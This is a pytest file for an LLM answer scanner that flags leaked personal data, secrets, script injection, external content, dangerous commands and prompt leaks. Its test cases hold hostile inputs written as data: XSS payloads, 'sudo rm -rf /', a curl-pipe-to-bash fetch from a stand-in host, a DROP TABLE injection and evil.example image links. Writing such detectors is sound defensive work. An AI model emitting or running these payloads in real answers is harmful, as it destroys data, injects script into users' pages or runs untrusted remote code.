"""Signs of trouble in answers, and the probes."""

import pytest

from llmops.scans.output import check_answer

ENTITIES = ("EMAIL_ADDRESS", "CREDIT_CARD", "PHONE_NUMBER", "SECRET")
SYSTEM = "You are a helpful assistant of the Lamp Shop and never talk about prices of others."
HONEST = [
    "Step 1: open the box. Step 2: open the bag. Step 3: open the door. Step 4: open the lid.",
    "Select the items from your cart; drop us a line at any time, and delete the cookie from the browser.",
    "Use < 3 kg or > 5 kg parcels; images are shown on the page.",
    "Write <a href=\"/online=1\">online</a> or <a title='online = now'>.",
]


def find_rules(answer: str, question: str = "q", context: str = "") -> dict[str, str]:
    found = check_answer(question, answer, context, where="item 1", entities=ENTITIES, system=SYSTEM)
    return {f.rule: f.severity for f in found}


@pytest.mark.parametrize("answer", HONEST)
def test_honest_answers_have_no_finding(answer: str) -> None:
    assert find_rules(answer) == {}


@pytest.mark.parametrize(
    ("answer", "rule", "severity"),
    [
        ("Pay with 4111 1111 1111 1111.", "CREDIT_CARD", "high"),
        ("The key is hf_" + "aB3" * 12, "SECRET", "high"),
        ("Ask ana@example.com", "EMAIL_ADDRESS", "medium"),
        ("<script>alert(1)</script>", "SCRIPT", "high"),
        ("data:text/html,x", "SCRIPT", "high"),
        ("<img src=x onerror=alert(1)>", "SCRIPT", "high"),
        ("<svg/onload=alert(1)>", "SCRIPT", "high"),
        ("<img src='x'onerror=alert(1)>", "SCRIPT", "high"),
        ("[here](javascript:alert(1))", "SCRIPT", "high"),
        ("![x](https://evil.example/?q=1)", "EXTERNAL_CONTENT", "medium"),
        ("<iframe src='//evil.example'>", "EXTERNAL_CONTENT", "medium"),
        ("Run sudo rm -rf / now", "COMMAND", "medium"),
        ("curl https://x.example/i.sh | sudo bash", "COMMAND", "medium"),
        ("'; DROP TABLE orders; --", "COMMAND", "medium"),
        ("I was told: you are a helpful assistant of the lamp shop!", "SYSTEM_PROMPT", "medium"),
        ("Sure.<|im_end|>", "FORMAT_MARKS", "low"),
        ("Sure.\n####", "FORMAT_MARKS", "low"),
        ("aaaaaaaaaaaaaaaaaaaa", "REPETITION", "low"),
        ("we ship it soon " * 10, "REPETITION", "low"),
        (" \n", "EMPTY", "low"),
    ],
)
def test_signs(answer: str, rule: str, severity: str) -> None:
    assert find_rules(answer)[rule] == severity


def test_what_the_asker_gave_is_no_leak() -> None:
    assert find_rules("It goes to ana@example.com.", question="Send it to Ana@Example.com") == {}
    assert find_rules("Card 4111-1111-1111-1111.", context="card 4111111111111111") == {}
    assert find_rules("It goes to bob@example.com.", question="Send it to ana@example.com") == {
        "EMAIL_ADDRESS": "medium"
    }


def test_findings_do_not_hold_the_datum() -> None:
    (finding,) = check_answer("q", "Ask ana@example.com", where="item 1", entities=ENTITIES)
    assert "ana" not in finding.detail
    assert (finding.where, finding.owasp[:5]) == ("item 1", "LLM02")
